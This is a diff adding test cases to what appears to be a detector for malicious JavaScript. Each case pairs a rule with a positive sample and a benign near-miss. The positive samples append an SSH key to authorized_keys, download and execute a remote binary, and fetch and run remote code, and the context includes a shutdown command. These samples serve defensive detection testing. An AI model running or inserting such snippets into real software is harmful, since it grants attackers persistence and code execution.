@@ -117,6 +117,34 @@ CASES: list[tuple[Rule, str, str, str]] = [
         "key = r'Software\\Example\\Settings'\n",
     ),
     (
+        persistence_rule,
+        "k.js",
+        "const fs = require('fs');\nconst k = 'ssh-ed25519 AAAAC3Nz0000 someone@example';\n"
+        "fs.appendFileSync('/home/u/.ssh/authorized_keys', k);\n",
+        "// see ~/.ssh/authorized_keys for the keys this server accepts\n"
+        "const k = 'ssh-ed25519 AAAAC3Nz0000 someone@example';\n",
+    ),
+    (
+        executes_code_at_remote_url_rule,
+        "d.js",
+        "const http = require('http'), fs = require('fs'), cp = require('child_process');\n"
+        "http.get('http://x.example.net/b', (r) => { r.pipe(fs.createWriteStream('/tmp/b'));\n"
+        "  r.on('end', () => { fs.chmodSync('/tmp/b', 0o755); cp.exec('/tmp/b'); }); });\n",
+        "const http = require('http'), fs = require('fs');\n"
+        "http.get('http://x.example.net/b', (r) => { r.pipe(fs.createWriteStream('/tmp/b'));\n"
+        "  r.on('end', () => fs.chmodSync('/tmp/b', 0o644)); });\n",
+    ),
+    (
+        executes_code_at_remote_url_rule,
+        "n.js",
+        "const cp = require('child_process'), fs = require('fs');\n"
+        "fetch(url).then((r) => r.text()).then((t) => { fs.writeFileSync(p, t);\n"
+        "  cp.exec(`node ${p}`); });\n",
+        "const cp = require('child_process'), fs = require('fs');\n"
+        "fetch(url).then((r) => r.text()).then((t) => fs.writeFileSync(p, t));\n"
+        "cp.exec(`node --version`);\n",
+    ),
+    (
         destructive_command_rule,
         "k.js",
         "require('child_process').exec('shutdown -s -t 0');\n",
